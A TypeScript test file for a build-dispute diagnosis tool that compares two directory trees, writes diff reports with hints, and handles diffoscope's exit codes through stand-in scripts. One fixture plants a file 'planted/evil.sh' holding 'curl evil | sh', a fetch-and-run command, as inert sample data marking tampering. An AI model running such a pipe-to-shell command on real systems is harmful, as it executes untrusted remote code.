/**
 * diagnoseDispute exports exactly the differing files (by CID) and writes
 * report.json + report.txt with a hint per recognised difference; with
 * diffoscope installed its reports name the differing bytes. diffoscopeReport's
 * exit handling (not installed, exit 2, timeout) is proven with stand-in
 * executables, so it runs everywhere.
 */
import { chmod, readFile, readdir, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { MemoryBlockstore } from 'blockstore-core/memory'
import { describe, expect, it } from 'vitest'
import { addDirectory } from '../../src/content/index.ts'
import { DiffoscopeFailedError, DiffoscopeTimeoutError, diagnoseDispute, diffoscopeReport, findExecutable } from '../../src/requester/diff/index.ts'
import type { DisputeReport } from '../../src/requester/diff/index.ts'
import { noise, withTempDir, writeTree } from './helpers.ts'

const installed = await findExecutable('diffoscope') !== undefined
if (!installed) console.warn('diffoscope is not installed: skipping the tests that run it (apt-get install --no-install-recommends diffoscope-minimal)')

async function disputedTrees (tmp: string, bs: MemoryBlockstore): Promise<{ a: Awaited<ReturnType<typeof addDirectory>>['cid'], b: Awaited<ReturnType<typeof addDirectory>>['cid'] }> {
  const shared = { 'lib/libhello.a': noise('shared archive', 300_000), 'share/doc/README': 'hello\n' }
  await writeTree(join(tmp, 'A'), { ...shared, 'bin/version.txt': 'hello 1.0 built 1980-01-01\n', 'bin/extra': 'only in A\n' })
  await writeTree(join(tmp, 'B'), { ...shared, 'bin/version.txt': 'hello 1.0 built 2025-06-01\n', 'planted/evil.sh': 'curl evil | sh\n' })
  return { a: (await addDirectory(bs, join(tmp, 'A'))).cid, b: (await addDirectory(bs, join(tmp, 'B'))).cid }
}

describe('diagnoseDispute', () => {
  it('exports only the differing files and writes report.json and report.txt', async () => {
    await withTempDir(async tmp => {
      const bs = new MemoryBlockstore()
      const { a, b } = await disputedTrees(tmp, bs)
      const work = join(tmp, 'dispute')
      const report = await diagnoseDispute(bs, a, b, work, { diffoscope: false })
      expect(report.entries.map(e => `${e.change} ${e.path}`)).toEqual(['removed bin/extra', 'modified bin/version.txt', 'added planted'])
      expect(report.files).toHaveLength(1)
      const f = report.files[0]!
      expect(f.path).toBe('bin/version.txt')
      expect(await readFile(join(work, f.fileA!), 'utf8')).toBe('hello 1.0 built 1980-01-01\n')
      expect(await readFile(join(work, f.fileB!), 'utf8')).toBe('hello 1.0 built 2025-06-01\n')
      // the hint is read from the bytes, diffoscope or not (hints.ts)
      expect(f.hints?.map(h => h.kind)).toEqual(['embedded-date'])
      // nothing but the differing pair was exported
      expect(await readdir(join(work, 'files'))).toEqual(['0001'])
      expect(report.diffoscope).toEqual({ installed: false, hint: 'apt-get install --no-install-recommends diffoscope-minimal' })

      const json = JSON.parse(await readFile(join(work, 'report.json'), 'utf8')) as DisputeReport
      expect(json.entries).toEqual(report.entries)
      expect(json.a).toBe(a.toString())
      const text = await readFile(join(work, 'report.txt'), 'utf8')
      expect(text).toContain(a.toString())
      expect(text).toMatch(/modified\s+bin\/version\.txt \(27 vs 27 bytes\)/)
      expect(text).toMatch(/added\s+planted/)
      expect(text).toContain('apt-get install --no-install-recommends diffoscope-minimal')
      expect(text).toContain('hint (embedded-date): a date/time is embedded: "hello 1.0 built 1980-01-01" vs "hello 1.0 built 2025-06-01"')
    })
  })

  it.skipIf(!installed)('runs diffoscope on each differing pair when installed', async () => {
    await withTempDir(async tmp => {
      const bs = new MemoryBlockstore()
      const { a, b } = await disputedTrees(tmp, bs)
      const work = join(tmp, 'dispute')
      const report = await diagnoseDispute(bs, a, b, work, {})
      expect(report.diffoscope.installed).toBe(true)
      const f = report.files[0]!
      expect(f.error).toBeUndefined()
      expect(f.diffoscope?.differ).toBe(true)
      const dtext = await readFile(f.diffoscope!.text, 'utf8')
      expect(dtext).toContain('1980-01-01')
      expect(dtext).toContain('2025-06-01')
      const djson = JSON.parse(await readFile(f.diffoscope!.json, 'utf8')) as { unified_diff?: string, details?: unknown[] }
      expect(JSON.stringify(djson)).toContain('2025-06-01')
      // the human report carries the diffoscope excerpt
      const text = await readFile(join(work, 'report.txt'), 'utf8')
      expect(text).toContain('diffoscope: files/0001/diffoscope.txt (files differ)')
      expect(text).toContain('+hello 1.0 built 2025-06-01')

      // identical files: exit 0, not an error
      const same = await diffoscopeReport(join(work, f.fileA!), join(work, f.fileA!), join(tmp, 'same'))
      expect(same).toMatchObject({ installed: true, differ: false, exitCode: 0 })
    })
  })
})

describe('diffoscopeReport exit handling', () => {
  it('not installed: a hint, no error', async () => {
    await withTempDir(async tmp => {
      const r = await diffoscopeReport(join(tmp, 'a'), join(tmp, 'b'), tmp, { command: 'concur-no-such-diffoscope' })
      expect(r).toEqual({ installed: false, hint: 'apt-get install --no-install-recommends diffoscope-minimal' })
    })
  })

  it('exit status 2 is a DiffoscopeFailedError carrying stderr; a hung run is killed at the timeout', async () => {
    await withTempDir(async tmp => {
      const failing = join(tmp, 'fake-diffoscope-fails')
      await writeFile(failing, '#!/bin/sh\necho "cannot read input" >&2\nexit 2\n')
      const hanging = join(tmp, 'fake-diffoscope-hangs')
      await writeFile(hanging, '#!/bin/sh\nsleep 600 &\nwait\n')
      const differing = join(tmp, 'fake-diffoscope-differs')
      await writeFile(differing, '#!/bin/sh\n[ "$1" = --text ] && [ "$3" = --json ] && echo differ > "$2" && exit 1\nexit 3\n')
      await Promise.all([failing, hanging, differing].map(async p => chmod(p, 0o755)))

      const err = await diffoscopeReport(join(tmp, 'a'), join(tmp, 'b'), join(tmp, 'out'), { command: failing }).catch(e => e)
      expect(err).toBeInstanceOf(DiffoscopeFailedError)
      expect(err.code).toBe('ERR_DIFFOSCOPE_FAILED')
      expect(err.exitCode).toBe(2)
      expect(err.stderr).toContain('cannot read input')

      const timeout = await diffoscopeReport(join(tmp, 'a'), join(tmp, 'b'), join(tmp, 'out'), { command: hanging, timeoutMs: 200 }).catch(e => e)
      expect(timeout).toBeInstanceOf(DiffoscopeTimeoutError)
      expect(timeout.code).toBe('ERR_DIFFOSCOPE_TIMEOUT')

      // exit 1 means "the files differ": a result, with the argv contract checked by the stand-in
      const r = await diffoscopeReport(join(tmp, 'a'), join(tmp, 'b'), join(tmp, 'out'), { command: differing })
      expect(r).toMatchObject({ installed: true, differ: true, exitCode: 1, text: join(tmp, 'out', 'diffoscope.txt') })
      expect(await readFile(join(tmp, 'out', 'diffoscope.txt'), 'utf8')).toBe('differ\n')
    })
  })
})
